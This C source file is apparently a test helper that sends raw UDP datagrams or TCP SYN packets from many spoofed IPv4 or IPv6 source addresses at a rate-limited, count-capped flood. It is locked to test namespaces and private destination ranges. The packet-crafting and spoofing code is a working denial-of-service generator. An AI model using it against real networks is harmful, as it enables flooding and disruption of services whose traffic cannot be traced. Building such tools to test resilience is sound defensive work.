// spoof: sends UDP datagrams or TCP SYNs from many spoofed source addresses, for the attack
// tests. Compiled at test time (cc -O2 -o spoof spoof.c); never committed as a binary.
//
//   spoof udp|syn --dst IP --dport N (--src CIDR | --sources FILE) --count N
//         [--rate PPS] [--len BYTES] [--payload-hex HEX] [--sport N]
//
// Sources: --src 10.78.0.0/16 walks the range from its first address (base + i, wrapping);
// --sources FILE takes one address per line (e.g. IPv6 keys chosen to collide) and cycles.
// Safety (TESTBED.md): it refuses to run in the host's network namespace and refuses any
// destination outside 10.77.0.0/16 and fd77::/16, the ranges the tests give their namespaces.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void die(const char* msg) {
  fprintf(stderr, "spoof: %s\n", msg);
  exit(2);
}

static uint32_t sum16(const void* data, size_t len, uint32_t acc) {
  const uint8_t* p = data;
  for (size_t i = 0; i + 1 < len; i += 2) acc += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (len & 1) acc += (uint32_t)(p[len - 1] << 8);
  return acc;
}

static uint16_t fold(uint32_t acc) {
  while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
  return htons((uint16_t)~acc);
}

static int parse_hex(const char* hex, uint8_t* out, size_t cap) {
  size_t n = strlen(hex);
  if (n % 2 || n / 2 > cap) return -1;
  for (size_t i = 0; i < n / 2; i++) {
    unsigned v;
    if (sscanf(hex + 2 * i, "%2x", &v) != 1) return -1;
    out[i] = (uint8_t)v;
  }
  return (int)(n / 2);
}

// True unless this process runs in a namespace made by `ip netns add` (a file under /run/netns
// whose inode is our network namespace's).
static int in_host_netns(void) {
  struct stat self;
  if (stat("/proc/self/ns/net", &self) != 0) return 1;
  DIR* dir = opendir("/run/netns");
  if (!dir) return 1;
  int host = 1;
  struct dirent* e;
  while ((e = readdir(dir))) {
    char path[512];
    struct stat st;
    snprintf(path, sizeof path, "/run/netns/%s", e->d_name);
    if (e->d_name[0] != '.' && stat(path, &st) == 0 && st.st_ino == self.st_ino &&
        st.st_dev == self.st_dev)
      host = 0;
  }
  closedir(dir);
  return host;
}

struct source {
  int v6;
  uint8_t addr[16];
};

int main(int argc, char** argv) {
  if (argc < 2)
    die("usage: spoof udp|syn --dst IP --dport N (--src CIDR | --sources FILE) --count N");
  int syn = strcmp(argv[1], "syn") == 0;
  if (!syn && strcmp(argv[1], "udp") != 0) die("mode must be udp or syn");
  const char *dst_s = NULL, *src_s = NULL, *file_s = NULL, *hex = NULL;
  long dport = 0, count = 0, rate = 0, len = 16, sport_fixed = 0;
  for (int i = 2; i + 1 < argc; i += 2) {
    const char *k = argv[i], *v = argv[i + 1];
    if (!strcmp(k, "--dst"))
      dst_s = v;
    else if (!strcmp(k, "--dport"))
      dport = atol(v);
    else if (!strcmp(k, "--src"))
      src_s = v;
    else if (!strcmp(k, "--sources"))
      file_s = v;
    else if (!strcmp(k, "--count"))
      count = atol(v);
    else if (!strcmp(k, "--rate"))
      rate = atol(v);
    else if (!strcmp(k, "--len"))
      len = atol(v);
    else if (!strcmp(k, "--payload-hex"))
      hex = v;
    else if (!strcmp(k, "--sport"))
      sport_fixed = atol(v);
    else
      die("unknown option");
  }
  if (!dst_s || dport <= 0 || dport > 65535 || count <= 0 || (!src_s && !file_s))
    die("--dst, --dport, --count and --src or --sources are required");
  if (count > 2000000) die("--count is capped at 2,000,000 (floods are bounded)");
  if (in_host_netns()) die("refusing to send from the host's network namespace");

  struct source dst = {0};
  if (inet_pton(AF_INET, dst_s, dst.addr) == 1) {
    dst.v6 = 0;
    if (dst.addr[0] != 10 || dst.addr[1] != 77) die("destination must be in 10.77.0.0/16");
  } else if (inet_pton(AF_INET6, dst_s, dst.addr) == 1) {
    dst.v6 = 1;
    if (dst.addr[0] != 0xfd || dst.addr[1] != 0x77) die("destination must be in fd77::/16");
  } else {
    die("bad --dst");
  }

  // Sources.
  struct source* list = NULL;
  size_t nlist = 0;
  struct source base = {0};
  uint64_t span = 1;
  if (file_s) {
    FILE* f = fopen(file_s, "r");
    if (!f) die("cannot open --sources file");
    char line[128];
    size_t cap = 0;
    while (fgets(line, sizeof line, f)) {
      line[strcspn(line, "\r\n \t")] = 0;
      if (!*line) continue;
      if (nlist == cap) {
        cap = cap ? cap * 2 : 1024;
        list = realloc(list, cap * sizeof *list);
        if (!list) die("out of memory");
      }
      struct source s = {0};
      if (inet_pton(AF_INET, line, s.addr) == 1)
        s.v6 = 0;
      else if (inet_pton(AF_INET6, line, s.addr) == 1)
        s.v6 = 1;
      else
        die("bad address in --sources file");
      if (s.v6 != dst.v6) die("source and destination families differ");
      list[nlist++] = s;
    }
    fclose(f);
    if (!nlist) die("empty --sources file");
  } else {
    char buf[64];
    snprintf(buf, sizeof buf, "%s", src_s);
    char* slash = strchr(buf, '/');
    if (!slash) die("--src must be a CIDR");
    *slash = 0;
    int plen = atoi(slash + 1);
    if (inet_pton(AF_INET, buf, base.addr) == 1)
      base.v6 = 0;
    else if (inet_pton(AF_INET6, buf, base.addr) == 1)
      base.v6 = 1;
    else
      die("bad --src");
    if (base.v6 != dst.v6) die("source and destination families differ");
    int bits = (base.v6 ? 128 : 32) - plen;
    if (bits < 0) die("bad prefix length");
    span = bits >= 32 ? (1ull << 32) : (1ull << bits);
  }

  int fd = socket(dst.v6 ? AF_INET6 : AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) die("raw socket (needs root)");
  int one = 1;
  if (!dst.v6) setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one);
  int sndbuf = 4 << 20;
  setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);

  uint8_t payload[1400];
  int plen = (int)len;
  if (hex) {
    plen = parse_hex(hex, payload, sizeof payload);
    if (plen < 0) die("bad --payload-hex");
  } else {
    if (len < 0 || len > (long)sizeof payload) die("--len out of range");
    for (int i = 0; i < plen; i++) payload[i] = (uint8_t)('a' + i % 26);
  }
  if (syn) plen = 0;

  struct sockaddr_storage to = {0};
  socklen_t tolen;
  if (dst.v6) {
    struct sockaddr_in6* s6 = (struct sockaddr_in6*)&to;
    s6->sin6_family = AF_INET6;
    memcpy(&s6->sin6_addr, dst.addr, 16);
    tolen = sizeof *s6;
  } else {
    struct sockaddr_in* s4 = (struct sockaddr_in*)&to;
    s4->sin_family = AF_INET;
    memcpy(&s4->sin_addr, dst.addr, 4);
    tolen = sizeof *s4;
  }

  struct timespec start;
  clock_gettime(CLOCK_MONOTONIC, &start);
  long sent = 0, failed = 0;
  uint8_t pkt[1500];
  for (long i = 0; i < count; i++) {
    struct source src;
    if (list) {
      src = list[(size_t)i % nlist];
    } else {
      src = base;
      uint64_t off = (uint64_t)i % span;
      int last = src.v6 ? 15 : 3;
      uint64_t carry = off;
      for (int b = last; b >= 0 && carry; b--) {
        uint64_t v = src.addr[b] + (carry & 0xff);
        src.addr[b] = (uint8_t)v;
        carry = (carry >> 8) + (v >> 8);
      }
    }
    uint16_t sport = sport_fixed ? (uint16_t)sport_fixed : (uint16_t)(1024 + (i * 7919) % 60000);
    size_t l4len = syn ? 20 : 8 + (size_t)plen;
    size_t iplen = src.v6 ? 40 : 20;
    memset(pkt, 0, iplen + l4len);
    uint8_t* l4 = pkt + iplen;
    uint32_t pseudo = 0;
    if (src.v6) {
      pkt[0] = 0x60;
      pkt[4] = (uint8_t)(l4len >> 8);
      pkt[5] = (uint8_t)l4len;
      pkt[6] = syn ? IPPROTO_TCP : IPPROTO_UDP;
      pkt[7] = 64;
      memcpy(pkt + 8, src.addr, 16);
      memcpy(pkt + 24, dst.addr, 16);
      pseudo = sum16(pkt + 8, 32, 0) + (uint32_t)l4len + pkt[6];
    } else {
      size_t tot = iplen + l4len;
      pkt[0] = 0x45;
      pkt[2] = (uint8_t)(tot >> 8);
      pkt[3] = (uint8_t)tot;
      pkt[4] = (uint8_t)(i >> 8);
      pkt[5] = (uint8_t)i;
      pkt[8] = 64;
      pkt[9] = syn ? IPPROTO_TCP : IPPROTO_UDP;
      memcpy(pkt + 12, src.addr, 4);
      memcpy(pkt + 16, dst.addr, 4);
      uint16_t c = fold(sum16(pkt, 20, 0));
      memcpy(pkt + 10, &c, 2);
      pseudo = sum16(pkt + 12, 8, 0) + (uint32_t)l4len + pkt[9];
    }
    l4[0] = (uint8_t)(sport >> 8);
    l4[1] = (uint8_t)sport;
    l4[2] = (uint8_t)(dport >> 8);
    l4[3] = (uint8_t)dport;
    if (syn) {
      uint32_t seq = (uint32_t)(i * 2654435761u);
      memcpy(l4 + 4, &seq, 4);
      l4[12] = 0x50;  // data offset 5
      l4[13] = 0x02;  // SYN
      l4[14] = 0xff;
      l4[15] = 0xff;
      uint16_t c = fold(sum16(l4, 20, pseudo));
      memcpy(l4 + 16, &c, 2);
    } else {
      l4[4] = (uint8_t)(l4len >> 8);
      l4[5] = (uint8_t)l4len;
      memcpy(l4 + 8, payload, (size_t)plen);
      uint16_t c = fold(sum16(l4, l4len, pseudo));
      if (c == 0) c = 0xffff;
      memcpy(l4 + 6, &c, 2);
    }
    if (sendto(fd, pkt, iplen + l4len, 0, (struct sockaddr*)&to, tolen) < 0) {
      if (errno == ENOBUFS || errno == EAGAIN) {
        usleep(200);
        i--;  // retry the same packet: the count is what reaches the wire
        if (++failed > 10 * count) die("send keeps failing");
        continue;
      }
      failed++;
    } else {
      sent++;
    }
    if (rate > 0 && (i & 63) == 63) {
      struct timespec now;
      clock_gettime(CLOCK_MONOTONIC, &now);
      double elapsed = (double)(now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9;
      double due = (double)(i + 1) / (double)rate;
      if (due > elapsed) usleep((useconds_t)((due - elapsed) * 1e6));
    }
  }
  struct timespec end;
  clock_gettime(CLOCK_MONOTONIC, &end);
  double secs = (double)(end.tv_sec - start.tv_sec) + (end.tv_nsec - start.tv_nsec) / 1e9;
  printf("sent %ld packets in %.2f s (%ld send errors)\n", sent, secs, failed);
  free(list);
  return 0;
}
